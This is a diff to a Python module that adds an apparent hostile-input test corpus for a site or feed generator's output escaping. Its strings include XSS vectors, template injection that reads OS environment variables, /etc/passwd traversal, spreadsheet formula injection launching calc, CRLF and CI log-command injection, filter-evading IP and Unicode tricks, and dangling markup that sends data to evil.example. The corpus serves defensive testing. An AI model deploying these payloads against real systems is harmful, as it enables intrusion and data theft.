@@ -122,4 +122,84 @@ MARKED = (
 )
 """What Markdown of some kind makes markup of."""
 
+FORMATTED = (
+    "100% of %(number)s %s %d %n {0} {number} {n!r} {self.__class__} $name ${{name}}<img src=x onerror=alert(1)>",
+    '%(url)s"><img src=x onerror=alert(1)>%(host)s{{ super() }}{{ caller() }}',
+    "{{ page.site }}{{ _('<img src=x onerror=alert(1)>') }}{{ lipsum.__globals__['os'].environ }}",
+    "{%- set x = namespace() -%}{{ x }}{% from '_parts.html' import card %}{{ card }}<svg/onload=alert(1)>",
+    "{% extends '/etc/passwd' %}{% block main %}<img src=x onerror=alert(1)>{% endblock %}{% endraw %}",
+    "\\1\\g<0>\\g<name>\\x3cimg src=x onerror=alert(1)\\x3e\\u003csvg/onload=alert(1)\\u003e",
+    "\x1b[8m<img src=x onerror=alert(1)>\x1b[0m\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07\x9b31m",
+    "::error file=x::y%0A::add-mask::z ##[command]<img src=x onerror=alert(1)>",
+    '=HYPERLINK("javascript:alert(1)","x") +cmd|\' /C calc\'!A0 @SUM(1) -1+1',
+)
+"""What formats text: of Python, of its expressions, of templates, of terminals, of what reads logs and tables."""
+
+TOLD_APART = (
+    "a\rguid: urn:uuid:11111111-1111-1111-1111-111111111111\rpath: stories/../x.md\r\r<img src=x onerror=alert(1)>",
+    "a\npath: stories/x.md\n\n---\ntitle: <img src=x onerror=alert(1)>\n---\n\nseen: x  y",
+    "a\tb\tc\u2028page index.html\x85edition 1 2025-W01\x1clist TAG a <img src=x onerror=alert(1)>",
+    "edition 999999999 2025-W32",
+    "page ../../<img src=x onerror=alert(1)>.html",
+    "list TAG x <img src=x onerror=alert(1)>",
+    "x\n.. note:: y\n:save_as: ../x.html\n:template: /etc/passwd\n\n<img src=x onerror=alert(1)>",
+    "x\r\n\r\n<html><script>alert(1)</script>\r\nLocation: javascript:alert(1)\r\n",
+    "zz\n</loc><loc>javascript:alert(1)</loc><xhtml:link href='javascript:alert(1)'/>",
+    '" htmlUrl="javascript:alert(1)"/><outline type="rss" xmlUrl="javascript:alert(1)" text="',
+)
+"""What begins a line, a record or an element of a file that is written."""
+
+NUMBERED = (
+    "[x](http://2130706433/) [y](http://0x7f.1/) [z](http://017700000001/) [w](http://[::ffff:7f00:1]/)",
+    "[x](http://[v1.a]/) [y](http://a.example:0x50/) [z](http://a.example:65536/) [w](http://a.example:-1/)",
+    "<a href='//2130706433'>x</a><a href='http://①②⑦.⓪.⓪.①/'>y</a><a href='http:\\\\0x7f.1\\x'>z</a>",
+    "http://good.example／@evil.example/ http://good.example＼.evil.example/ http://good。example/",
+    "https://good.example%2f%2e%2e%2f@evil.example/?https://good.example/#@good.example/",
+    "<a href=' \x1fhttps://evil.example/ a b.html \x1f'>x</a><a href='java script:alert(1)'>y</a>",
+    "<a href='mailto:a@a.example?attach=/etc/passwd&bcc=b@b.example%0aX:%20y'>x</a><a href='tel:*#06#'>y</a>",
+    "[x](mailto:a@a.example?body=%3Cscript%3Ealert(1)%3C/script%3E) [y](sms:1) [z](ms-msdt:/id) [w](search-ms:query=x)",
+)
+"""Hosts and mailboxes that are written otherwise than they are read."""
+
+UNSEEN_IN_WORDS = (
+    "\U000e003cimg\U000e0020src=x\U000e003e \U000e0001\U000e0065\U000e006e<img src=x onerror=alert(1)>\U000e007f",
+    "\u2062\u2063\u2064\u206a\u206fjava\u2061script:alert(1) \u180e\u115f\u3164\uffa0<svg/onload=alert(1)>",
+    "<\u0300img src=x onerror=alert(1)> <\ufe00img src=x onerror=alert(1)> \uff1cimg src=x onerror=alert(1)\uff1e",
+    "‹script›alert(1)‹/script› ＜svg/onload=alert(1)＞ ﹤img src=x onerror=alert(1)﹥ \u2039b\u203a",
+    "\ufff9<img src=x onerror=alert(1)>\ufffa\ufffb \u061c\u2066</p>\u2069<img src=x onerror=alert(1)>",
+    "ſcript:alert(1) <ſcript>alert(1)</ſcript> <ıframe onload=alert(1)> <İmg src=x onerror=alert(1)>",
+)
+"""What hides in words, or becomes a mark when letters are folded."""
+
+OBJECTS = (
+    "__proto__",
+    "constructor.prototype",
+    "toString",
+    'hasOwnProperty"]=alert(1)//',
+    "[object Object]<img src=x onerror=alert(1)>",
+    "<mark>x</mark><mark><img src=x onerror=alert(1)></mark>&lt;mark&gt;<svg/onload=alert(1)>",
+    "null undefined NaN -0 1e999 \u0000 true",
+)
+"""What a script finds in every object, or an index of words sets around what was found."""
+
+PARSED_LATE = (
+    "<p><![CDATA[ x ]]]]><![CDATA[> ]]&gt; &#93;&#93;&#62; <img src=x onerror=alert(1)>",
+    "&lt;![CDATA[&lt;img src=x onerror=alert(1)&gt;]]&gt;"
+    " &amp;lt;![CDATA[&amp;lt;svg/onload=alert(1)&amp;gt;]]&amp;gt;",
+    "<svg><desc><![CDATA[</desc><img src=x onerror=alert(1)>]]></desc></svg><![cdata[x]]>",
+    "<select><hr><button><selectedcontent><img src=x onerror=alert(1)></button></select>",
+    "<p><table><caption><p><svg><foreignObject><table><td></p><style></caption><img src=x onerror=alert(1)></style>",
+    "<math><annotation-xml encoding=text/html><svg><desc><math><mi><style></mi><img src=x onerror=alert(1)></style>",
+    "<input type=image src=//evil.example/x formaction=javascript:alert(1)>"
+    "<img usemap=#m><map name=m><area href='//evil.example'>",
+    "<img src='//evil.example/?x=",
+    "<base target='x<'><a href=//evil.example/x><form action='//evil.example/?",
+    "<textarea form=f name=x>",
+    "<button type=submit form=search formaction=//evil.example/>x</button><noscript>",
+)
+"""What a parser leaves open, or joins with what follows."""
+
 NEWEST = (*REPARSED, *LEADING, *CLOBBERING, *STYLED, *SPOKEN, *MARKED)
+
+LATEST = (*FORMATTED, *TOLD_APART, *NUMBERED, *UNSEEN_IN_WORDS, *OBJECTS, *PARSED_LATE)
+"""What came after `NEWEST`, and is tried behind it."""
